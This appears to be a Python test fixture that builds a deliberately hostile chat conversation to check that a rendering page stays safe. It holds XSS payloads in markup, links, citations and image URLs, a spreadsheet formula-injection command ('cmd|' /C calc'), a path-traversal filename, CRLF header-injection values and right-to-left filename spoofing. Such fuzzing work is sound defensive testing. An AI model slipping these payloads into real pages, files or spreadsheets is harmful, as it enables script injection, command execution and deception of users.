"""Items that try to break a page that shows them: markup, links, control characters, writing systems, sizes."""

from typing import Any

from .tool_items import Item

CONTROLS = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
SCRIPT_URL = "javascript:alert(document.domain)"
HTML_URL = "data:text/html,<script>alert(1)</script>"
SVG_URL = "data:image/svg+xml,<svg onload='alert(1)'/>"
ZALGO = "".join(letter + "\u0300\u0315\u0321\u0334\u0351\u0489" * 8 for letter in "Where is my kettle?")
LINE_COUNT = 100_000

MARKUP = (
    '<script>alert("user")</script>',
    '"><img src=x onerror=alert(1)> </textarea></pre></title><svg/onload=alert(2)>',
    "{{ 7 * 7 }} {% debug %} ${7*7} <%= 7 * 7 %> &lt;b&gt; &#x3C;i&#x3E; --><!--",
    f"[harmless]({SCRIPT_URL}) ![picture]({HTML_URL}) <{SCRIPT_URL}> https://example.com/\u202egnp.exe",
    "```\ncode\n```\n````\n# Out of the fence?\n~~~\n</code></pre><h1>Heading</h1>\n```",
    '=HYPERLINK("https://example.com/?leak="&A1,"Click here")',
    "+1+1 @SUM(A1:A9) -2+3\t=cmd|' /C calc'!A0",
)
CHARACTERS = (
    "\x1b[31mred\x1b[0m \x1b[2J\x1b]8;;https://example.com/\x1b\\link\x1b]8;;\x1b\\ \x1b]0;title\x07",
    f"Every control: {CONTROLS}.",
    "refund \u202eelttek\u202c, \u202dleft to right\u202c, \u2066isolated\u2069, \u2067right\u2069, \u2068never closed",
    f"{ZALGO} and a plain word after it.",
    "A family: 👨\u200d👩\u200d👧\u200d👦, a flag: 🏳️\u200d🌈, a hand: 👍🏽.",
    "Joined to nothing: \u200d\u200d, no break:\u2060\ufeff.",
    "مرحبا، أين طلبي 48213؟ (Acme) شكرا!",
    "שלום, איפה ההזמנה 48213? (Acme) תודה!",
    "Half an emoji: \ud83d, another line:\u2028a paragraph:\u2029end.\r\nA carriage\rreturn.",
    " \t\n\u00a0\u3000\u200b",
    "",
)


def _message(role: str, *parts: Item, **fields: Any) -> Item:
    return {"type": "message", "role": role, "status": "completed", "content": list(parts), **fields}


def _text(text: str) -> Item:
    return _message("user", {"type": "input_text", "text": text})


def _call(name: str, arguments: str, **fields: Any) -> Item:
    call = {"type": "function_call", "call_id": "call_hostile", "name": name, "arguments": arguments}
    return {**call, "status": "completed", **fields}


def hostile() -> list[Item]:
    """A conversation that must be shown as it is: no script runs, no link is dangerous, no layout breaks."""
    return [*map(_text, MARKUP), *map(_text, CHARACTERS), *_links(), *_files(), *_calls(), *_empty(), *_sizes()]


def _links() -> list[Item]:
    text = "See the page."
    citations = [
        {"type": "url_citation", "title": title, "url": url, "start_index": 8, "end_index": 12}
        for title, url in [
            ("<b>bold</b>", SCRIPT_URL),
            ("page", HTML_URL),
            ("\u202egnp.exe", " \x01JaVaScRiPt:alert(1)"),
            ("https://example.com/", "//example.com\\@example.com/%0d%0aSet-Cookie:a=b"),
        ]
    ]
    outside = {
        "type": "url_citation",
        "title": "",
        "url": "https://example.com/",
        "start_index": -5,
        "end_index": 10**9,
    }
    images = [{"type": "input_image", "detail": "auto", "image_url": url} for url in (SCRIPT_URL, HTML_URL, SVG_URL)]
    files = [{"type": "input_file", "file_url": url, "filename": "a.html"} for url in (SCRIPT_URL, HTML_URL)]
    return [
        _message("assistant", {"type": "output_text", "text": text, "annotations": [*citations, outside]}),
        _message("user", *images, *files),
        {"type": "web_search_call", "status": "completed", "action": {"type": "open_page", "url": SCRIPT_URL}},
        {"type": "image_generation_call", "status": "completed", "result": 'PHN2Zz4="><script>alert(1)</script>'},
    ]


def _files() -> list[Item]:
    names = (
        "../../etc/passwd",
        "C:\\temp\\\"quoted\" 'too'.txt",
        "invoice\u202efdp.exe",
        "a\r\nContent-Type: text/html\r\n\r\n<b>.csv",
        "n" * 300 + ".pdf",
    )
    data = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    return [_message("user", *({"type": "input_file", "filename": name, "file_data": data} for name in names))]


def _calls() -> list[Item]:
    return [
        _call("nested", "[" * 2000 + "]" * 2000),
        _call("invalid", '{"order_id": 48213, "note": "never closed'),
        _call("no_json", "NaN, undefined, {'single': 'quotes'}"),
        _call("big_number", '{"a": 1e999, "b": 123456789012345678901234567890, "a": "twice", "__proto__": {"c": 1}}'),
        _call("very_long_name_" * 70, "{}"),
        _call("<script>alert(1)</script>", '{"html": "</script><script>alert(1)</script>"}'),
        {
            "type": "function_call_output",
            "call_id": "call_of_nobody",
            "output": "\x1b[31m<b>failed</b>",
            "status": "failed",
        },
    ]


def _empty() -> list[Item]:
    image = {"type": "input_image", "detail": "auto", "image_url": None, "file_id": None}
    file = {"type": "input_file", "filename": None, "file_id": None, "file_url": None, "file_data": None}
    return [
        _message("user"),
        _message("assistant", phase=None),
        {"type": "message", "role": "user", "status": None, "content": None},
        _message("user", {"text": "A part without a type."}, {"type": None}, {}),
        _message("user", image, file),
        _message("assistant", {"type": "output_text", "text": "", "annotations": [], "logprobs": None}),
        _call("nulls", "", status=None, namespace=None, caller=None),
        {"type": "reasoning", "summary": [], "content": None, "encrypted_content": None, "status": None},
        {"type": "file_search_call", "queries": [], "status": "completed", "results": None},
        {"type": "function_call_output", "call_id": None, "output": [], "status": "completed"},
    ]


def _sizes() -> list[Item]:
    lines = "\n".join(f"Line {number}" for number in range(1, LINE_COUNT + 1))
    return [_text("x" * 1_000_000), _text(lines)]
